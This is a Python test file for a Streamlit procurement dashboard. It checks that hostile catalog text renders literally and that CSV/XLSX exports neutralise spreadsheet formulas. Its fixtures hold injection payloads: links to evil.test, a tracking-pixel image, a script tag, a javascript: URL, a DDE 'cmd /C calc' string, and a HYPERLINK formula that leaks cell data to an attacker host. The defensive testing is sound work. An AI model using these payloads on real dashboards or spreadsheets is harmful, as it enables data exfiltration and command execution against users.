"""Nothing injected (issue 13, items 5 and 6): catalog-provided text (names, categories, units,
SKUs, reasons) is shown as the literal text it is - no link, image, HTML or Streamlit directive
in any element that renders Markdown - and the CSV export neutralises formula-like text cells
while numbers stay numbers.

What the browser would render is checked on every Markdown source the app sends: parsed with a
CommonMark parser (markdown-it-py) for links, images and HTML; its rendered text for what GFM
autolinks there (bare URLs, www. and e-mail addresses); the source for Streamlit's
``:directive[...]`` and ``$math$``. ``test_browser_injection.py`` shows the same in Chromium.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import pandas as pd
import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from sqlalchemy import update

from dashboard.views import buy_csv, buy_xlsx
from procurement_pipeline.lib.catalog import parse_catalog
from procurement_pipeline.lib.warehouse import create_warehouse_engine
from procurement_pipeline.lib.warehouse.catalog import upsert_catalog
from procurement_pipeline.lib.warehouse.recommendations import store_recommendations
from procurement_pipeline.lib.warehouse.schema import model_registry
from procurement_pipeline_tests.conftest import catalog_csv
from procurement_pipeline_tests.dashboard.seed import OTHER, SKIPPED, TRAINED
from procurement_pipeline_tests.dashboard.test_buy_view import (
    recommendation,
    served_csv,
    served_xlsx,
)

PIXEL = "![x](http://127.0.0.1:9/pixel.png) [click](http://evil)"
BOLD = "**bold** <img src=x>"
DIRECTIVES = ":red[alerta] $x^2$ www.evil.test vendas@evil.test :smile: :material/home:"
EVIL_SKU = "*X*_[1]"
FORMULA = '=HYPERLINK("http://evil.test/?d="&A1;"ver")'
NAMES = {TRAINED: PIXEL, OTHER: BOLD, SKIPPED: DIRECTIVES, EVIL_SKU: "+cmd|' /C calc'!A0"}
CATEGORIES = {TRAINED: "[cat](http://evil.test/c)", OTHER: "adesivos", SKIPPED: "<b>tecidos</b>"}
UNITS = {TRAINED: "`un`", OTHER: "**kg**", SKIPPED: "<i>m</i>"}
REASON = "![r](http://127.0.0.1:9/r.png) <script>alert(1)</script> ver http://evil.test"

_PARSER = MarkdownIt("commonmark").enable(["strikethrough", "table"])
_UNSAFE_TOKENS = {"link_open", "image", "html_inline", "html_block"}
# GFM autolinks bare URLs, www. addresses and e-mail addresses found in the *rendered* text
# (after escapes are resolved: Chromium showed ``http\:\/\/x`` linked), never in code spans.
_GFM_AUTOLINK = re.compile(r"(?:https?|ftp|mailto|xmpp):|www\.|[\w.+-]+@[\w-]+\.\w", re.IGNORECASE)
# $math$ needs two unescaped dollars in the source (one, as in "R$ 10,00", is plain text).
_DOLLAR = re.compile(r"(?<!\\)\$")
_CODE_SPAN = re.compile(r"(?<!\\)`[^`]*`")
_DIRECTIVE = re.compile(r"(?<!\\):[a-z]+\[", re.IGNORECASE)
_SHORTCODE = re.compile(r":[\w+\-/]+:")  # emoji and icons: an unescaped closing colon


def _csv_field(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def seed_hostile_catalog(seeded) -> None:
    """The seeded warehouse, with hostile names, categories and units (loaded through the
    real validator and upsert), a fourth product whose SKU holds Markdown, and a skip reason
    holding Markdown and HTML."""
    prices = {TRAINED: "289.90", OTHER: "129.00", SKIPPED: "32.40"}
    products = [
        [sku, NAMES[sku], CATEGORIES[sku], UNITS[sku], "termo", "4", "5", "7", price]
        for sku, price in prices.items()
    ]
    products.append([EVIL_SKU, NAMES[EVIL_SKU], "espumas", "un", "t", "1", "1", "1", "9.90"])
    rows = [",".join(_csv_field(f) for f in fields) for fields in products]
    engine = create_warehouse_engine(seeded.url)
    upsert_catalog(engine, parse_catalog(catalog_csv(rows)))
    with engine.begin() as conn:
        conn.execute(
            update(model_registry).where(model_registry.c.sku == SKIPPED).values(reason=REASON)
        )
    engine.dispose()


@pytest.fixture
def hostile(seeded):
    seed_hostile_catalog(seeded)
    return seeded


def markdown_sources(at) -> list[tuple[str, str]]:
    """(element type, Markdown source) of everything on the page that Streamlit renders as
    Markdown: headings, captions, markdown, alerts, metric labels, widget labels and help, and
    radio options. Dataframe cells, st.text and selectbox options are plain text."""
    out = []
    for node in at._tree:
        proto = getattr(node, "proto", None)
        kind = type(node).__name__
        if proto is None or kind in ("Text", "Code", "Dataframe", "Exception"):
            continue
        for name in ("body", "label", "help"):
            value = getattr(proto, name, None)
            if isinstance(value, str) and value:
                out.append((kind, value))
        if kind == "Radio":
            out.extend((kind, option) for option in proto.options)
    return out


def rendered_text(source: str, *, code: bool = True) -> str:
    """The text a CommonMark renderer shows for ``source`` (without code spans: ``code=False``)."""
    parts = []
    for token in _PARSER.parse(source):
        for child in token.children or []:
            if child.type == "text" or (code and child.type == "code_inline"):
                parts.append(child.content)
            elif child.type in ("softbreak", "hardbreak"):
                parts.append(" ")
    return "".join(parts)


def assert_inert(at) -> list[str]:
    """Every Markdown source renders no link, image, HTML, autolink or math; returns the
    rendered texts."""
    assert not at.exception
    shown = []
    for kind, source in markdown_sources(at):
        for token in _PARSER.parse(source):
            found = {t.type for t in [token, *(token.children or [])]} & _UNSAFE_TOKENS
            assert not found, f"{kind} renders {found}: {source!r}"
        prose = rendered_text(source, code=False)
        assert not _GFM_AUTOLINK.search(prose), f"{kind} would autolink: {source!r}"
        outside_code = _CODE_SPAN.sub("", source)
        assert len(_DOLLAR.findall(outside_code)) < 2, f"{kind} would render math: {source!r}"
        assert not _DIRECTIVE.search(outside_code), f"{kind} has a directive: {source!r}"
        assert not _SHORTCODE.search(outside_code), f"{kind} has an emoji/icon: {source!r}"
        shown.append(rendered_text(source))
    return shown


def test_hostile_names_categories_units_and_reasons_show_literally(make_app, hostile):
    at = make_app(hostile.url, hostile.artifact_root)
    at.query_params["sku"] = TRAINED
    at = at.run()
    shown = assert_inert(at)
    assert PIXEL in shown  # the header is the literal name
    assert any(
        f"SKU {TRAINED} · categoria {CATEGORIES[TRAINED]} · unidade {UNITS[TRAINED]}" in s
        for s in shown
    )
    # The product list shows the names as they are (selectbox options are plain text).
    assert f"{TRAINED} — {PIXEL}" in at.selectbox(key="sku").options

    for sku in (OTHER, SKIPPED, EVIL_SKU):
        at.selectbox(key="sku").select(sku).run()
        shown = assert_inert(at)
        assert NAMES[sku] in shown, sku
        assert any(f"SKU {sku} ·" in s for s in shown), sku
    at.selectbox(key="sku").select(SKIPPED).run()
    shown = assert_inert(at)
    assert any(f"Motivo: {REASON}" in s for s in shown)
    assert any(f"unidade {UNITS[SKIPPED]}" in s for s in shown)

    at.radio(key="view").set_value("Catálogo").run()
    assert_inert(at)
    moves = at.dataframe[0].value
    assert set(moves["Produto"]) == {PIXEL, BOLD}


def test_offer_links_are_http_only(make_app, hostile):
    """Offer links come from scraped pages: only http(s) URLs become links."""
    from procurement_pipeline.lib.warehouse.schema import offers

    engine = create_warehouse_engine(hostile.url)
    with engine.begin() as conn:
        conn.execute(update(offers).where(offers.c.position == 1).values(url="javascript:alert(1)"))
    engine.dispose()
    at = make_app(hostile.url, hostile.artifact_root)
    at.query_params["sku"] = TRAINED
    at = at.run()
    table = at.dataframe[1].value
    assert set(table["Link"].dropna()) == {"https://example.test/0"}
    assert table["Link"].isna().sum() == 1


def test_csv_export_neutralises_formulas_and_keeps_negative_numbers(make_app, hostile):
    today = dt.date(2026, 11, 25)
    frame = pd.DataFrame(
        [
            recommendation(TRAINED, CATEGORIES[TRAINED], "buy_now", -3, 0.0, as_of=today),
            recommendation(EVIL_SKU, "espumas", "buy_by", 4, -12.5, as_of=today, reason=FORMULA),
            recommendation(
                OTHER, "adesivos", "wait_until", 9, 20.0, as_of=today, reason="@SUM(A1)"
            ),
        ]
    )
    engine = create_warehouse_engine(hostile.url)
    store_recommendations(engine, frame, generated_at=dt.datetime(2026, 11, 25, 12))
    engine.dispose()
    at = make_app(hostile.url, hostile.artifact_root)
    at.query_params["view"] = "comprar"
    at = at.run()
    assert not at.exception
    table = at.dataframe[0].value
    # On screen the values are the literal ones.
    assert set(table["Produto"]) == {PIXEL, BOLD, NAMES[EVIL_SKU]}

    button, xlsx_button = at.get("download_button")
    content = buy_csv(table)
    assert served_csv(button, content, f"o_que_comprar_{today.isoformat()}.csv")
    parsed = pd.read_csv(
        io.BytesIO(content), sep=";", decimal=",", encoding="utf-8-sig", keep_default_na=False
    )
    by_sku = parsed.set_index("SKU")
    assert by_sku.loc[EVIL_SKU, "Produto"] == "'" + NAMES[EVIL_SKU]
    assert by_sku.loc[EVIL_SKU, "Motivo"] == "'" + FORMULA
    assert by_sku.loc[OTHER, "Motivo"] == "'@SUM(A1)"
    assert by_sku.loc[TRAINED, "Produto"] == PIXEL  # not formula-like: unchanged
    assert by_sku.loc[TRAINED, "Urgência (dias)"] == -3.0  # numbers are not touched
    assert by_sku.loc[EVIL_SKU, "Economia esperada"] == -12.5
    text = content.decode("utf-8-sig")
    assert ";-3,00;" in text and ";-12,50;" in text
    # No text cell of the export starts with a formula trigger.
    for column in parsed.columns:
        if parsed[column].dtype == object:
            for value in parsed[column]:
                assert not str(value).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))

    # The .xlsx beside it: the same text, never a formula cell, kept text by the quote prefix.
    workbook = buy_xlsx(table)
    assert served_xlsx(xlsx_button, workbook, f"o_que_comprar_{today.isoformat()}.xlsx")
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(workbook)).active
    header = [c.value for c in sheet[1]]
    rows = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
    for cell in (rows[EVIL_SKU]["Produto"], rows[EVIL_SKU]["Motivo"], rows[OTHER]["Motivo"]):
        assert cell.data_type == "s" and cell.quotePrefix
    assert rows[EVIL_SKU]["Motivo"].value == FORMULA
    assert not rows[TRAINED]["Produto"].quotePrefix
    assert rows[TRAINED]["Urgência (dias)"].value == -3.0
    assert rows[EVIL_SKU]["Economia esperada"].value == -12.5
